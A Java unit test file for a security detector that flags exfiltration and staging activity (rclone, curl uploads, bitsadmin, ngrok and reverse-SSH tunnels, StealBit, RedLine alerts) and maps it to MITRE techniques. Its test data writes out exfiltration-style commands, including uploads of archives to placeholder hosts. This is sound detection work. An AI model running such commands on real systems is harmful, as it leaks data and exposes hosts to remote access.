package konseki.detect.egress;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import konseki.detect.AssetMap;
import konseki.detect.Baseline;
import konseki.detect.CaseRules;
import konseki.detect.Context;
import konseki.detect.DetectorRun;
import konseki.detect.Signal;
import konseki.detect.TestCase;
import konseki.detect.TestEvent;
import konseki.event.EventBuffer;
import konseki.event.Networks;
import konseki.event.Timestamp;
import konseki.finding.Detection;
import konseki.finding.TimeRange;
import konseki.query.Predicate;
import konseki.query.Query;
import konseki.query.QueryContext;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TransferTracesTest {
    private static final String T0 = "2024-03-10T12:00:00Z";
    private static final CaseRules RULES = TestCase.rules(TestCase.asset("FS01", "10.0.0.21", "server"));
    private static final TransferTraces DETECTOR = new TransferTraces(TraceRules.DEFAULT);
    private static final TimeRange WINDOW =
            new TimeRange(TestEvent.time("2024-03-10T00:00:00Z"), TestEvent.time("2024-03-11T00:00:00Z"));

    @TempDir
    Path folder;

    private static TestEvent start(String executable, String command) {
        return TestEvent.of(
                T0,
                "event.dataset=windows.security",
                "event.code=4688",
                "event.category=process",
                "event.type=start",
                "host.name=FS01.corp.example",
                "user.name=adm",
                "process.executable=" + executable,
                "process.command_line=" + command);
    }

    private static TestEvent upload(String destination, String... more) {
        return TestEvent.of(T0, "source.ip=10.0.0.21", "destination.ip=" + destination)
                .with(more);
    }

    private List<Detection> detections(Context context, List<TestEvent> events) {
        return DetectorRun.of(DETECTOR, folder, events).conclude(List.of(), context);
    }

    private List<Detection> detections(TestEvent... events) {
        return detections(TestCase.context(RULES, List.of(), WINDOW), List.of(events));
    }

    private static Context tainted(Baseline baseline) {
        return new Context(
                RULES,
                new AssetMap(RULES.assets()),
                List.of(),
                baseline,
                List.of(),
                List.of(),
                List.of(),
                Map.of("FS01", new Context.Taint(WINDOW.from(), java.util.Optional.empty(), "test")),
                WINDOW,
                "test",
                WINDOW);
    }

    private static boolean finds(Query query, TestEvent event) {
        EventBuffer buffer = new EventBuffer();
        event.fill(buffer);
        return Predicate.of(query, new QueryContext(Networks.PRIVATE, 0)).test(buffer);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "C:\\ProgramData\\rclone.exe | rclone.exe copy D:\\data mega:x | rclone | 60 | T1567.002",
                "C:\\Windows\\System32\\cmd.exe | cmd /c rclone sync \\\\fs01\\d remote: | rclone | 60 | T1567.002",
                "C:\\Users\\a\\svc.exe | svc.exe copy D: r:x --no-check-certificate --transfers 8 | rclone | 60 | T1567.002",
                "C:\\Program Files\\WinSCP\\WinSCP.exe | WinSCP.exe /script=a.txt | winscp | 30 | T1048",
                "C:\\Windows\\System32\\ftp.exe | ftp.exe -s:c:\\a.txt | ftp-script | 40 | T1048.003",
                "/usr/bin/curl | curl -T /srv/a.zip https://up.example/ | curl-upload | 40 | T1048.002",
                "/usr/bin/curl | curl -F file=@/srv/a.zip https://up.example/ | curl-upload | 40 | T1048.002",
                "C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe | aws s3 cp D:\\x s3://b/ | aws-copy | 40 | T1567.002",
                "C:\\Windows\\System32\\bitsadmin.exe | bitsadmin /transfer j /upload http://x/a c:\\a | bits-upload | 60 | T1197",
                "C:\\Temp\\ngrok.exe | ngrok.exe tcp 3389 | ngrok | 50 | T1572",
                "C:\\Windows\\System32\\OpenSSH\\ssh.exe | ssh.exe -R 8080:localhost:80 a@b | reverse-ssh | 40 | T1572",
                "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe | AnyDesk.exe --service | anydesk | 40 | T1219.002",
                "C:\\Program Files\\7-Zip\\7z.exe | 7z.exe a D:\\o.7z D:\\data | archiver | 20 | T1560.001",
                "/usr/bin/tar | tar czf /tmp/o.tar.gz /srv | tar | 20 | T1560.001",
                "C:\\Temp\\stealbit.exe | stealbit.exe | stealbit | 60 | T1567.002"
            })
    void knowsTheStartsOfTools(String executable, String command, String tool, int score, String technique) {
        TestEvent event = start(executable, command);

        assertThat(detections(event))
                .filteredOn(detection -> tool.equals(detection.subject().get("tool")))
                .singleElement()
                .satisfies(detection -> {
                    assertThat(detection.score()).isEqualTo(score);
                    assertThat(detection.subject()).containsEntry("asset", "FS01");
                    assertThat(detection.techniques().getFirst().id()).isEqualTo(technique);
                    assertThat(finds(detection.queries().getFirst(), event)).isTrue();
                });
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "/usr/bin/curl | curl -fsSL https://repo.example/key",
                "/usr/sbin/sshd | /usr/sbin/sshd -D -R",
                "/usr/libexec/openssh/sftp-server | sftp-server",
                "C:\\Program Files\\7-Zip\\7z.exe | 7z.exe x D:\\o.7z",
                "/usr/bin/tar | tar xzf /tmp/o.tar.gz",
                "/usr/bin/rsync | rsync -a /srv /backup",
                "C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe | aws s3 ls"
            })
    void leavesOtherUsesAlone(String executable, String command) {
        assertThat(detections(start(executable, command))).isEmpty();
    }

    @Test
    void anEndOfAProcessIsNoStart() {
        TestEvent end = TestEvent.of(
                T0, "event.category=process", "event.type=end", "host.name=FS01", "process.executable=C:\\rclone.exe");
        assertThat(detections(end)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            nullValues = "-",
            value = {
                "rar.exe a -r \"C:\\Users\\Public\\my data.rar\" D:\\x | c:\\users\\public\\my data.rar",
                "7z a -pX D:\\out\\a.7z D:\\x.zip | d:\\out\\a.7z",
                "tar czf /tmp/o.tar.gz /srv | /tmp/o.tar.gz",
                "7z a '/srv/o p.zip | /srv/o p.zip",
                "7z a .zip | -",
                "7z x a.docx | -"
            })
    void takesTheArchiveFromTheCommand(String command, String path) {
        konseki.event.Slice text = konseki.event.Slice.of(command.toLowerCase(java.util.Locale.ROOT));
        long found = ArchivePath.in(text);
        String shown = found < 0
                ? null
                : new String(
                        text.bytes(),
                        (int) (found >>> 32),
                        (int) found - (int) (found >>> 32),
                        java.nio.charset.StandardCharsets.UTF_8);
        assertThat(shown).isEqualTo(path);
    }

    @Test
    void aTaintedMachineRaisesAWeakTool() {
        TestEvent event = start("C:\\Program Files\\WinSCP\\WinSCP.exe", "WinSCP.exe");
        assertThat(detections(tainted(new Baseline(0, 0)), List.of(event)))
                .singleElement()
                .satisfies(detection -> {
                    assertThat(detection.score()).isEqualTo(50);
                    assertThat(detection.signals()).containsExactly("tainted-host", "transfer-tool");
                });
    }

    @Test
    void whatTheBaselineHasOnThreeDaysCountsLittle() {
        List<TestEvent> events = new ArrayList<>();
        for (int day = 0; day < 4; day++) {
            events.add(start("C:\\Tools\\AnyDesk.exe", "AnyDesk.exe").plusSeconds(-day * 86400L));
        }
        Baseline threeDays = new Baseline(WINDOW.from() - 4 * Timestamp.DAY, WINDOW.from());

        assertThat(detections(tainted(threeDays), events)).singleElement().satisfies(detection -> {
            assertThat(detection.score()).isEqualTo(18);
            assertThat(detection.facts()).containsEntry("baseline-days", "3").containsEntry("events", "1");
        });
        assertThat(detections(tainted(threeDays), events.subList(0, 3)))
                .singleElement()
                .satisfies(detection -> assertThat(detection.score()).isEqualTo(60));
    }

    @ParameterizedTest
    @CsvSource({
        "198.51.100.7, http.request.method=PUT, url.path=/dav/OfficeSupplies.7z, source.bytes=70000, 70000",
        "198.51.100.7, http.request.method=POST, file.path=db.bak, vendor.request_body_len=90000, 90000",
        "198.51.100.7, network.protocol=ftp, event.action=STOR, file.path=db.bak, -",
        "198.51.100.7, network.protocol=smb, event.type=change, file.path=a.docx, -",
        "198.51.100.7, event.dataset=zeek.files, file.path=a.bin, file.size=5, 5"
    })
    void knowsUploadsByName(String to, String first, String second, String third, String bytes) {
        List<String> pairs = new ArrayList<>(List.of(first, second, third));
        TestEvent event = upload(to, pairs.toArray(String[]::new));

        assertThat(detections(event)).singleElement().satisfies(detection -> {
            assertThat(detection.signals()).containsExactly("named-upload");
            assertThat(detection.subject()).containsEntry("destination", to);
            assertThat(detection.facts().getOrDefault("largest-upload.lo", "-")).isEqualTo(bytes);
            assertThat(finds(detection.queries().getFirst(), event)).isTrue();
            assertThat(finds(detection.queries().getFirst(), event.with("event.type=denied")))
                    .isFalse();
        });
    }

    @ParameterizedTest
    @CsvSource({
        "10.0.0.9, http.request.method=PUT, url.path=/a.7z, event.type=info",
        "198.51.100.7, http.request.method=GET, url.path=/a.7z, event.type=info",
        "198.51.100.7, http.request.method=POST, url.path=/index.php, event.type=info",
        "198.51.100.7, http.request.method=PUT, url.path=/a.7z, event.type=denied",
        "198.51.100.7, network.protocol=ftp, event.action=RETR, file.path=a"
    })
    void leavesOtherRequestsAlone(String to, String first, String second, String third) {
        assertThat(detections(upload(to, first, second, third))).isEmpty();
    }

    @Test
    void aLargeArchiveInAPublicFolderIsStaging() {
        TestEvent created = TestEvent.of(
                T0,
                "event.category=file",
                "event.type=creation",
                "host.name=FS01",
                "file.path=C:\\Users\\Public\\o.7z",
                "file.extension=7z");

        assertThat(detections(created.with("file.size=60000000")))
                .singleElement()
                .satisfies(detection -> {
                    assertThat(detection.score()).isEqualTo(40);
                    assertThat(detection.facts()).containsEntry("largest-archive", "60000000");
                    assertThat(finds(detection.queries().getFirst(), created)).isTrue();
                });
        assertThat(detections(created)).singleElement().satisfies(detection -> {
            assertThat(detection.score()).isEqualTo(20);
            assertThat(detection.facts()).doesNotContainKey("largest-archive");
        });
        assertThat(detections(created.with("file.path=D:\\work\\o.7z"))).isEmpty();
    }

    @Test
    void namesOfThievesInAlertsCount() {
        TestEvent alert = TestEvent.of(
                T0,
                "event.dataset=windows.defender",
                "event.code=1116",
                "host.name=FS01",
                "fx.object=PWS:Win32/RedLine.A!MTB");
        assertThat(detections(alert)).singleElement().satisfies(detection -> {
            assertThat(detection.score()).isEqualTo(60);
            assertThat(finds(detection.queries().getFirst(), alert)).isTrue();
        });
        assertThat(detections(alert.with("fx.object=Trojan:Win32/Wacatac"))).isEmpty();
    }

    @Test
    void onlyWhatFewUseForWorkSaysWhenTheAttackWas() {
        TestEvent rclone = start("C:\\x\\rclone.exe", "rclone.exe");
        List<TestEvent> events = new ArrayList<>(List.of(start("C:\\x\\WinSCP.exe", "x")));
        for (int day = 0; day < 4; day++) {
            events.add(rclone.plusSeconds(day * 86400L));
        }
        assertThat(DetectorRun.of(DETECTOR, folder, events).absolute(RULES))
                .hasSize(4)
                .allMatch(Signal::primary);

        events.add(rclone.plusSeconds(4 * 86400L));
        assertThat(DetectorRun.of(DETECTOR, folder, events).absolute(RULES)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 3, 7})
    void givesTheSameInAnyOrderAndSplit(int workers) {
        List<TestEvent> events = new ArrayList<>();
        for (int i = 0; i < 200; i++) {
            events.add(start("C:\\x\\rclone.exe", "rclone.exe copy d" + i).plusSeconds(i * 100L));
            events.add(start("C:\\7z.exe", "7z.exe a D:\\o" + i % 30 + ".7z").plusSeconds(i * 90L));
            events.add(upload("198.51.100." + i % 5, "http.request.method=PUT", "url.path=/x" + i + ".zip")
                    .plusSeconds(i * 60L));
        }
        Context context = TestCase.context(RULES, List.of(), WINDOW);
        List<Detection> expected = detections(context, events);
        assertThat(expected).hasSize(7);

        assertThat(DetectorRun.shuffled(DETECTOR, folder, events, workers, workers)
                        .conclude(List.of(), context))
                .isEqualTo(expected);
    }

    @Test
    void theTableFitsIntoOneMaskOfTools() {
        assertThat(TransferTools.count()).isBetween(30, Long.SIZE);
    }
}
